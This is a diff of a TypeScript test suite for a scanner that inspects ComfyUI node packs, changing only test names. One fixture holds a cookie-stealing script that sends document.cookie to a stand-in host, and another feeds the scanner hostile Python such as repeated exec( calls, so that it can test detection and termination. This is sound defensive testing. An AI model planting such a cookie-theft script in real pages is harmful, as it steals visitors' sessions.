@@ -41,7 +41,7 @@ NODE_CLASS_MAPPINGS = {"Blur": Blur, "Able": Blur}
   'lib/fast.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0),
 }
 
-test('an inspection has the facts, the comfy-nodes, the findings and the capabilities', async () => {
+test('returns the facts, the comfy-nodes, the findings and the capabilities', async () => {
   const inspection = await inspectPack(filesOfRecord(pack), parser)
   assert.equal(inspection.manifest?.name, 'blur')
   assert.deepEqual(inspection.readme, {
@@ -83,7 +83,7 @@ test('an inspection has the facts, the comfy-nodes, the findings and the capabil
   assert.equal(inspection.archive.python_files, 2)
 })
 
-test('the order of the files and where they lie change nothing', async () => {
+test('gives the same result for any order and location of the files', async () => {
   const reversed = Object.fromEntries(Object.entries(pack).reverse())
   const zip = buildZip({ entries: Object.entries(pack).map(([name, data]) => ({ name, data })) })
   const archive = await openArchive(sourceOfBytes(zip))
@@ -96,7 +96,7 @@ test('the order of the files and where they lie change nothing', async () => {
   for (const other of others) assert.equal(other, first)
 })
 
-test('an empty pack gives an inspection, not an error', async () => {
+test('returns an inspection for an empty pack, not an error', async () => {
   const { manifest, readme, findings, undecided } = await inspectPack(filesOfRecord({}), parser)
   assert.equal(manifest, null)
   assert.equal(readme, null)
@@ -107,7 +107,7 @@ test('an empty pack gives an inspection, not an error', async () => {
   assert.equal(undecided.length, 1)
 })
 
-test('Python that is too large to be read holds the version back', async () => {
+test('holds back a version with Python that is too large to read', async () => {
   const limits = { ...inspectionLimits, pythonFileBytes: 10 }
   const { findings } = await inspectPack(filesOfRecord({ '__init__.py': 'x = 1234567890\n' }), parser, {
     limits,
@@ -116,7 +116,7 @@ test('Python that is too large to be read holds the version back', async () => {
   assert.equal(finding?.severity, 'high')
 })
 
-test('a long README is cut between letters, and says so', async () => {
+test('truncates a long README between characters, and marks it', async () => {
   const limits = { ...inspectionLimits, readmeBytes: 5 }
   const { readme } = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, { limits })
   assert.deepEqual(readme, { path: 'README.md', text: 'aaaä', format: 'markdown', is_cut: true })
@@ -126,7 +126,7 @@ test('a long README is cut between letters, and says so', async () => {
   assert.equal(cut.readme?.text, 'aaa')
 })
 
-describe('reporting the file being inspected', () => {
+describe('progress reports of an inspection', () => {
   const pack = {
     '__init__.py': 'from .nodes import *\nfrom .tools import run\nrun()\n',
     'nodes.py': 'NODE_CLASS_MAPPINGS = {}\n',
@@ -159,13 +159,13 @@ describe('reporting the file being inspected', () => {
     )
   })
 
-  it('is silent while the work stays with the same file', async () => {
+  it('reports nothing while the work stays with the same file', async () => {
     const steps = await stepsOf(pack)
     assert.ok(steps.every((step, i) => step !== steps[i - 1]))
   })
 })
 
-test('hostile Python ends in an inspection', async () => {
+test('terminates on hostile Python', async () => {
   const many = (line: string, count: number) => line.repeat(count)
   const texts = [
     many('exec(', 3000),
@@ -183,7 +183,7 @@ test('hostile Python ends in an inspection', async () => {
   }
 })
 
-test('what is done for a whole file is done once, and not for each of its functions', async () => {
+test('does per-file work once, not for each function', async () => {
   const body =
     '    x = 1  # nothing that is worth reading, in more letters than a short function has\n'.repeat(6)
   const indices = Array.from({ length: 300 }, (_, i) => i)
@@ -200,7 +200,7 @@ test('what is done for a whole file is done once, and not for each of its functi
   assert.deepEqual(await rulesFor(tooMuch), ['high python-not-read', 'medium manifest-missing'])
 })
 
-test('no text of an inspection has null characters or half letters', async () => {
+test('leaves no null characters or unpaired surrogates in any text', async () => {
   const odd = '"a\\x00b\\ud800"'
   const inspection = await inspectPack(
     filesOfRecord({
@@ -229,7 +229,7 @@ NODE_CLASS_MAPPINGS = {"A": A, ${odd}: A, "\\ud800": A}
   )
 })
 
-test('scripts of a page that nests too deeply are reported, and so is a script behind many others', async () => {
+test('reports scripts of a page that nests too deeply, and a script behind many others', async () => {
   const theft = '<script>fetch("https://example.test/?c=" + document.cookie)</script>'
   const { findings } = await inspectPack(
     filesOfRecord({
@@ -244,7 +244,7 @@ test('scripts of a page that nests too deeply are reported, and so is a script b
   )
 })
 
-test('a page that the pack does not serve may load what counts its readers', async () => {
+test('allows a page that the pack does not serve to load a visitor counter', async () => {
   const page = '<script src="https://example.test/count.js"></script>'
   const files = { '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.html': page, 'docs/a.html': page }
   const { findings } = await inspectPack(filesOfRecord(files), parser)
